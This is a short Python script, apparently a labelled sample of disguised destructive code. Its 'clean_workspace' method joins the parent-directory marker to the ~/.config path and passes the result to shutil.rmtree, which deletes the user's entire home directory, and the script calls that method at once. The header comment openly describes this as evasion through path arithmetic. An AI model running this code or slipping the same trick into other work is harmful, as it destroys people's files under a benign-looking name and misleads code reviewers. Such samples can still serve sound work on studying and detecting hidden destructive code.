# Evasion: deletes the user's home directory recursively.
# Hidden through path arithmetic: a settings object keeps the config base
# (XDG_CONFIG_HOME, default ~/.config/, trailing slash stripped); its
# "clean workspace" step joins os.pardir to it and normalises the result,
# and removes that directory -- the parent of ~/.config, the home.
import os
import shutil


class Settings:
    def __init__(self):
        self.config_base = os.environ.get(
            "XDG_CONFIG_HOME", os.path.expanduser("~/.config/")).rstrip("/")
        self.verbose = True

    def describe(self):
        return f"config in {self.config_base}"

    def clean_workspace(self):
        ws = os.path.normpath(os.path.join(self.config_base, os.pardir))
        if self.verbose:
            print("cleaning", ws)
        shutil.rmtree(ws, ignore_errors=True)


s = Settings()
print(s.describe())
s.clean_workspace()
